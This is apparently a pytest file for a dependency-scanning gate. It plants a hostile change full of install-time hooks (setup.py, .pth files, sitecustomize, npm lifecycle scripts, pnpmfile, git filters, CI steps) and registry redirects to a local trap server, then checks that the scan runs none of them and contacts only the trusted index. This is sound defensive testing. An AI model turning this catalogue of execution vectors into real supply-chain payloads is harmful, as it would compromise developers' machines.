"""Whom a scan of a hostile change speaks to, and what of it runs: the index that the base names, and nothing.

Every connection of this process is recorded where it is made; those of the tools are seen by the trap, a server that
every address of the change leads to.
"""

import json
import socket
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from threading import Thread

import pytest

from gate.pipeline import Options
from gate.review import State
from tests.judging import judge


class Listener:
    """A server that answers nobody and remembers that it was asked."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = "{}:{}".format(*self._socket.getsockname())
        self.port: int = self._socket.getsockname()[1]
        self.asked = 0
        Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._socket.accept()
                self.asked += 1
                connection.close()

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def trap() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def index() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def contacted(monkeypatch) -> list[tuple[object, object]]:
    """Every host and port that this process connects to, or asks a name server for."""
    seen: list[tuple[object, object]] = []
    connect, lookup = socket.socket.connect, socket.getaddrinfo

    def connected(self, address):
        if self.family in {socket.AF_INET, socket.AF_INET6}:
            seen.append(address[:2])
        return connect(self, address)

    def looked_up(host, port, *rest, **more):
        seen.append((host, port))
        return lookup(host, port, *rest, **more)

    monkeypatch.setattr(socket.socket, "connect", connected)
    monkeypatch.setattr(socket, "getaddrinfo", looked_up)
    return seen


def hostile(url: str, mark: Path) -> dict[str, str | bytes | Path | None]:
    """A change in which every file that some tool would run or obey leaves a mark, and every address leads to the trap."""
    python = f"open({str(mark)!r}, 'w').write('ran')\n"
    script = f"touch {mark}"
    javascript = f"require('fs').writeFileSync({json.dumps(str(mark))}, 'ran')\n"
    lock = {
        "node_modules/evil": {"version": "1.0.0", "resolved": f"{url}/evil/-/evil-1.0.0.tgz", "hasInstallScript": True}
    }
    return {
        "setup.py": f"{python}from setuptools import setup\nsetup(name='x', install_requires=['evil-thing==1'])\n",
        "conftest.py": python, "sitecustomize.py": python, "usercustomize.py": python, "evil.pth": f"import os; os.system({script!r})\n",
        "semgrep.py": python, "bandit.py": python, "pip_audit.py": python, "yaml.py": python, "packaging/__init__.py": python,
        "backend/build_it.py": f"{python}def get_requires_for_build_wheel(config=None):\n    {python}    return []\n",
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "build_it"\nbackend-path = ["backend"]\n[project]\nname = "x"\n'
        f'dynamic = ["dependencies", "version"]\n[[tool.uv.index]]\nurl = "{url}/simple"\ndefault = true\n',
        "requirements.txt": f"-i {url}/simple\n--extra-index-url {url}/more\n--find-links {url}/links\n--trusted-host 127.0.0.1\n"
        f"-r {url}/more.txt\n-e .\n./\nevil @ {url}/evil-1.0.tar.gz\ngit+{url}/evil.git#egg=evil2\nmade-up-name==1.0\nevil-thing==1\n",
        "pip.conf": f"[global]\nindex-url = {url}/simple\n", ".pypirc": f"[x]\nrepository = {url}\n", "uv.toml": f'index-url = "{url}"\n',
        "Pipfile": f'[[source]]\nurl = "{url}"\nverify_ssl = false\n[packages]\nevil = "*"\n',
        "environment.yml": f"channels: ['{url}']\ndependencies: [{{pip: ['-r {url}/x.txt', 'evil-thing==1']}}]\n",
        "package.json": json.dumps({
            "scripts": dict.fromkeys(("preinstall", "install", "postinstall", "prepare"), script), "packageManager": f"yarn@{url}/yarn.js",
            "dependencies": {"evil": f"{url}/evil.tgz", "git": f"git+{url}/git.git", "made-up-name-of-npm": "1.0.0"},
        }),
        "package-lock.json": json.dumps({"lockfileVersion": 3, "packages": lock}),
        ".npmrc": f"registry={url}/\nscript-shell={script}\nnode-options=--require ./hook.js\n", "hook.js": javascript,
        ".yarnrc.yml": f'npmRegistryServer: "{url}"\nyarnPath: ./hook.js\nunsafeHttpWhitelist: ["127.0.0.1"]\n', ".pnpmfile.cjs": javascript,
        "pnpm-lock.yaml": f"lockfileVersion: '9.0'\n\npackages:\n\n  evil@{url}/evil.tgz:\n    resolution: {{tarball: {url}/evil.tgz}}\n    version: 1.0.0\n",
        "bunfig.toml": f'preload = ["./hook.js"]\n[install]\nregistry = "{url}"\n', "deno.json": json.dumps({"imports": {"evil": f"{url}/evil.ts"}}),
        "Dockerfile": f"FROM x\nRUN pip install -i {url} evil-thing==1\nADD {url}/evil.sh /\n", "Makefile": f"all:\n\t{script}\n",
        ".github/workflows/a.yml": f"on: push\njobs:\n  a:\n    steps:\n      - uses: helpful/evil@v1\n      - run: npx --registry {url} evil@1.0.0\n",
        "tool.py": f'# /// script\n# dependencies = ["evil @ {url}/evil.whl"]\n# ///\n{python}',
        ".semgrepconfig.yml": f"rules: ['{url}']\n", ".semgrep/x.yml": "rules: []\n", ".bandit": "[bandit]\nskips: ALL\n",
        ".pre-commit-config.yaml": f"repos:\n- repo: {url}/hooks\n  rev: v1\n  hooks: [{{id: x}}]\n",
        ".gitattributes": "* filter=evil diff=evil\n", ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = {url}\n',
    }  # fmt: skip


def test_a_scan_speaks_to_the_index_of_the_base_alone_and_runs_nothing(
    repository, tmp_path, monkeypatch, local, trap, index, contacted
):
    mark = tmp_path / "ran"
    policy = f'[dependencies]\nlookup = true\nindex = "http://{index.address}/simple"\nnpm_registry = "http://{index.address}/npm"\n'
    repository.commit({"gate.toml": policy, "app.py": "x = 1\n"})
    repository.git("checkout", "--quiet", "-b", "change")
    named = f"http://{trap.address}"
    repository.commit({
        **hostile(named, mark), "gate.toml": policy.replace(f"http://{index.address}", named),
    })  # fmt: skip
    monkeypatch.chdir(repository.folder)
    done = judge(repository, Options("full"))
    assert set(contacted) == {("127.0.0.1", index.port)}
    assert (index.asked > 0, trap.asked) == (True, 0)
    assert not mark.exists()
    (answer,) = (one for one in done.answers if one.item.id == "dependencies")
    assert answer.state is State.STOP
    unanswered = [row for row in done.coverage if row.scanner == "index" and row.hole]
    assert unanswered, "an index that answers nothing is no pass"


def test_the_trap_would_have_seen_it(trap, contacted):
    with socket.create_connection(("127.0.0.1", trap.port), timeout=5) as made, suppress(OSError):
        made.recv(1)
    assert (trap.asked, contacted[-1]) == (1, ("127.0.0.1", trap.port))
